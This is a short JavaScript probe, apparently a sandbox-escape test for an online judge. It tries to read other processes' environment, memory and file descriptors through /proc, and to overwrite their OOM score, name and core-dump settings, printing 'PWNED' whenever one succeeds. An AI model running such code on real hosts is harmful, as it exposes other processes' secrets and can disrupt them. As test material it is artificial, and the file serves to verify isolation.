// Tries: to look into every other process through /proc: words, environment, files, memory, roots.
// Must get: AC, for it answers honestly afterwards.
const fs = require("fs");
const says = (what) => console.log(`PWNED ${what}`);
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  if (Number(pid) === process.pid) continue;
  for (const file of ["environ", "maps", "mem", "auxv", "stack", "syscall", "io"]) {
    try {
      if (fs.readFileSync(`/proc/${pid}/${file}`).length) says(`read ${file} of ${pid}`);
    } catch {}
  }
  for (const link of ["cwd", "root", "exe", "fd/0", "fd/1", "fd/3"]) {
    try {
      says(`${link} of ${pid} is ${fs.readlinkSync(`/proc/${pid}/${link}`)}`);
    } catch {}
    try {
      if (fs.readdirSync(`/proc/${pid}/${link}`)) says(`listed ${link} of ${pid}`);
    } catch {}
  }
  for (const [file, text] of [["oom_score_adj", "1000"], ["comm", "judged"], ["coredump_filter", "0"]]) {
    try {
      fs.writeFileSync(`/proc/${pid}/${file}`, text);
      says(`wrote ${file} of ${pid}`);
    } catch {}
  }
}
/* @ANSWER@ */
